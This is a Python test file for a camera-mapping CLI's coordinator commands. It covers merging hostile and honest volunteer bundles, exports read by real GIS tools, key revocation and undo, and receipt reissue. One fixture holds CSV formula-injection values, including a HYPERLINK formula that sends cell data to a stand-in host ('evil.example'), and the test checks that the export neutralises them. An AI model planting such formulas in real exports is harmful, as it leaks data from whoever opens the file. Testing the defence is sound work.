"""The coordinator's commands against hostile bundles, end to end: one batch, every bundle its
own outcome, no traceback; exports the real tools read (``osmium fileinfo -e``, ``ogrinfo``);
CSV without a formula cell; keys named by the keyring; withdraw and undo; receipts re-issued."""

from __future__ import annotations

import csv
import json
import subprocess
from pathlib import Path

import pytest

from surveyor.cli import main
from surveyor.core.campaign.exports import is_formula
from tests.core.campaign.test_hostile_bundles import CASES
from tests.fixtures.hostile_bundles import Sender, camera

FORMATS = {"osm": "cams.osm", "kml": "cams.kml", "geojson": "cams.geojson", "csv": "cams.csv"}


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def check_with_real_tools(files: dict[str, Path]) -> None:
    subprocess.run(["osmium", "fileinfo", "-e", str(files["osm"])], check=True, capture_output=True)
    for fmt in ("kml", "geojson"):
        done = subprocess.run(
            ["ogrinfo", "-ro", "-al", "-so", str(files[fmt])], capture_output=True, text=True
        )
        assert done.returncode == 0 and "Feature Count" in done.stdout, done.stderr
    with files["csv"].open(newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert cells and not [c for c in cells if is_formula(c)]


def export_all(capsys, camp: str, folder: Path) -> dict[str, Path]:
    files = {fmt: folder / name for fmt, name in FORMATS.items()}
    for fmt, path in files.items():
        code, _, err = run(
            capsys, "export", "--campaign", camp, "--format", fmt, "--out", str(path)
        )
        assert code == 0, err
    return files


@pytest.mark.slow
def test_one_batch_of_hostile_bundles_and_good_ones(capsys, tmp_path: Path) -> None:
    import pyrage

    camp = str(tmp_path / "campaign")
    age = pyrage.x25519.Identity.generate()
    age_file = tmp_path / "coordinator.age"
    age_file.write_text(f"{age}\n")
    hostile, honest, prankster = Sender("kestrel"), Sender("heron"), Sender("wren")
    for s, name in ((hostile, "kestrel"), (honest, "Heron (met in person)"), (prankster, "wren")):
        assert (
            run(capsys, "keys", "add", "--campaign", camp, "--trust", "--name", name, s.public)[0]
            == 0
        )
    paths: list[Path] = []
    for n, (build, _reason) in enumerate(CASES.values()):
        bag = {"bundle_uuid": f"6a2d9b7e-1c4f-4e8a-9b3d-2f5e7c1a{n:04d}"}
        if n % 2:
            bag["encrypt_to"] = str(age.to_public())
        paths.append(build(hostile, tmp_path / f"bad{n}.zip", bag))
    paths.insert(3, honest.bundle(tmp_path / "good.zip", pseudonym="Police Official"))
    formulas = [
        camera(manufacturer='=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        camera(model="+1+1", operator="@SUM(1+1)"),
        camera(operator="-2+3"),
    ]
    for f, lon in zip(formulas, (20.47, 20.48, 20.49), strict=True):
        f["geometry"]["coordinates"] = [lon, 44.81]
    paths.append(
        prankster.bundle(tmp_path / "formulas.zip", formulas, encrypt_to=str(age.to_public()))
    )

    code, out, err = run(
        capsys, "merge", "--campaign", camp, "--age-identity", str(age_file), "--json",
        "--no-receipts", *map(str, paths),
    )  # fmt: skip
    assert code == 1 and "Traceback" not in out + err
    results = json.loads(out)["bundles"]
    assert len(results) == len(paths)
    statuses = {Path(r["file"]).name: r["status"] for r in results}
    assert statuses.pop("good.zip") == "merged"
    assert statuses.pop("formulas.zip.age") == "merged"
    assert set(statuses.values()) == {"refused"}
    reasons = [r["reason"] for r in results if r["status"] == "refused"]
    assert all(expected in got for (_b, expected), got in zip(CASES.values(), reasons, strict=True))
    named = [r for r in results if r["status"] == "refused" and r["key_id"]]
    assert len(named) >= 10 and {r["pseudonym"] for r in named} == {"kestrel"}
    good = next(r for r in results if r["file"].endswith("good.zip"))
    assert good["pseudonym"] == "Heron (met in person)"
    assert good["claimed_pseudonym"] == "Police Official"

    files = export_all(capsys, camp, tmp_path)
    check_with_real_tools(files)
    csv_text = files["csv"].read_text()
    assert "'=HYPERLINK" in csv_text and "'+1+1" in csv_text and "'@SUM" in csv_text
    assert len(json.loads(files["geojson"].read_text())["features"]) == 4


def test_merge_output_names_the_sender_and_shows_the_claim(capsys, tmp_path: Path) -> None:
    camp = str(tmp_path / "campaign")
    s = Sender("kestrel")
    run(capsys, "keys", "add", "--campaign", camp, "--trust", "--name", "Ana", s.public)
    bundle = s.bundle(tmp_path / "a.zip", pseudonym="Chief of Police")
    code, out, _ = run(capsys, "merge", "--campaign", camp, "--no-receipts", str(bundle))
    assert code == 0
    assert "[Ana, claims 'Chief of Police']" in out


def test_review_set_refuses_what_cannot_be_published(capsys, tmp_path: Path) -> None:
    camp = str(tmp_path / "campaign")
    s = Sender("kestrel")
    run(capsys, "keys", "add", "--campaign", camp, "--trust", s.public)
    run(capsys, "merge", "--campaign", camp, "--no-receipts", str(s.bundle(tmp_path / "a.zip")))
    geo = tmp_path / "c.geojson"
    run(capsys, "export", "--campaign", camp, "--format", "geojson", "--out", str(geo))
    uuid = json.loads(geo.read_text())["features"][0]["id"]
    for attribute, value, why in (
        ("direction", "9999", "not a direction"),
        ("camera_type", "banana", "is not one of"),
        ("model", "M" * 300, "at most 255"),
        ("height", "-5", "outside 0..500"),
        ("operator", "x\x07y", "control character"),
    ):
        code, _, err = run(capsys, "review", "set", "--campaign", camp, uuid, attribute, value)
        assert code == 2 and why in err, (attribute, err)
    code, out, _ = run(capsys, "review", "set", "--campaign", camp, uuid, "direction", "90")
    assert code == 0 and "by no key on this computer" in out  # honest: nobody can be named


def test_revoke_withdraw_takes_a_key_out_of_the_exports_and_undo_brings_it_back(
    capsys, tmp_path: Path
) -> None:
    camp = str(tmp_path / "campaign")
    liar, honest = Sender("liar"), Sender("heron")
    for s in (liar, honest):
        run(capsys, "keys", "add", "--campaign", camp, "--trust", "--name", s.name, s.public)
    lie = camera()
    lie["geometry"]["coordinates"] = [20.50, 44.80]
    bundles = [liar.bundle(tmp_path / "l.zip", [lie]), honest.bundle(tmp_path / "h.zip")]
    run(capsys, "merge", "--campaign", camp, "--no-receipts", *map(str, bundles))
    geo = tmp_path / "c.geojson"

    def published() -> int:
        assert (
            run(capsys, "export", "--campaign", camp, "--format", "geojson", "--out", str(geo))[0]
            == 0
        )
        return len(json.loads(geo.read_text())["features"])

    assert published() == 2
    code, out, _ = run(capsys, "keys", "revoke", "--campaign", camp, "liar", "--withdraw", "--json")
    assert code == 0
    decision = json.loads(out)["withdrawn_decision"]
    assert published() == 1
    code, out, _ = run(capsys, "keys", "list", "--campaign", camp)
    assert "liar  (sightings withdrawn)" in out
    code, out, _ = run(capsys, "stats", "--campaign", camp, "--json")
    assert json.loads(out)["cameras"] == 1
    assert run(capsys, "review", "undo", "--campaign", camp, str(decision))[0] == 0
    assert published() == 2
    code, out, _ = run(capsys, "keys", "list", "--campaign", camp, "--json")
    assert {k["pseudonym"]: k["status"] for k in json.loads(out)["keys"]}["liar"] == "revoked"


def test_a_failed_export_leaves_the_old_file_and_exits_non_zero(capsys, tmp_path: Path) -> None:
    from surveyor.core.workspace import Workspace
    from surveyor.store.campaign_models import Sighting

    camp = tmp_path / "campaign"
    s = Sender("kestrel")
    run(capsys, "keys", "add", "--campaign", str(camp), "--trust", s.public)
    run(
        capsys, "merge", "--campaign", str(camp), "--no-receipts", str(s.bundle(tmp_path / "a.zip"))
    )
    out = tmp_path / "c.osm"
    out.write_text("the old export\n")
    with Workspace.open(camp):  # a value stored before the gate existed
        Sighting.update(model="IPC\x0b6625").execute()
    code, _, err = run(
        capsys, "export", "--campaign", str(camp), "--format", "osm", "--out", str(out)
    )
    assert code == 1 and "U+000B" in err and "left as it was" in err
    assert out.read_text() == "the old export\n"
    assert not list(tmp_path.glob(".c.osm*"))


def test_receipts_lost_in_a_crash_are_reissued_on_the_next_run(
    capsys, tmp_path: Path, monkeypatch
) -> None:
    from surveyor.core.campaign import receipts

    camp = str(tmp_path / "campaign")
    assert run(capsys, "key", "create", "--pseudonym", "coord")[0] == 0
    s = Sender("kestrel")
    run(capsys, "keys", "add", "--campaign", camp, "--trust", s.public)
    first = s.bundle(tmp_path / "a.zip")

    def killed(*args, **kwargs):  # the process dies between the commit and the receipt
        raise OSError("killed")

    with monkeypatch.context() as m:
        m.setattr("surveyor.cli.campaign_merge.write_receipt", killed)
        code, out, _ = run(capsys, "merge", "--campaign", camp, str(first))
    assert code == 0 and "receipt could not be written" in out
    assert not (tmp_path / "campaign" / "receipts").exists() or not list(
        (tmp_path / "campaign" / "receipts").glob("*.json")
    )
    second = s.bundle(tmp_path / "b.zip")
    code, _, err = run(capsys, "merge", "--campaign", camp, str(second))
    assert code == 0 and "receipt issued for an earlier merge" in err
    written = sorted(p.name for p in (tmp_path / "campaign" / "receipts").glob("*.json"))
    assert len(written) == 2

    first_receipt = tmp_path / "campaign" / "receipts" / written[0]
    uuid = json.loads(first_receipt.read_text())["bundle_uuid"]  # receipts named by volunteer
    code, out, _ = run(capsys, "receipt", "--reissue", uuid, "--campaign", camp)
    assert code == 0 and "receipt written to" in out
    assert receipts.read_receipt(Path(out.split("receipt written to ")[1].strip())).cameras
    code, _, err = run(capsys, "receipt", "--reissue", "nope", "--campaign", camp)
    assert code == 2 and "no merged bundle" in err


def test_camera_add_refuses_a_pasted_control_character(capsys, tmp_path: Path) -> None:
    from surveyor.core.workspace import Workspace
    from surveyor.store.models import Walk
    from tests.fixtures.bundles import add_photo, leaky_jpeg

    ws = tmp_path / "ws"
    with Workspace.open(ws) as w:
        photo = add_photo(w, Walk.create(name="w"), leaky_jpeg(tmp_path / "p.jpg"))
        photo_id = str(photo.id)
    code, _, err = run(
        capsys,
        "--workspace",
        str(ws),
        "camera",
        "add",
        "--photo",
        photo_id,
        "--make",
        "Hik\x01vision",
    )
    assert code == 2 and "control character U+0001" in err
    code, _, err = run(
        capsys, "--workspace", str(ws), "camera", "add", "--photo", photo_id, "--model", "M" * 256
    )
    assert code == 2 and "at most 255" in err
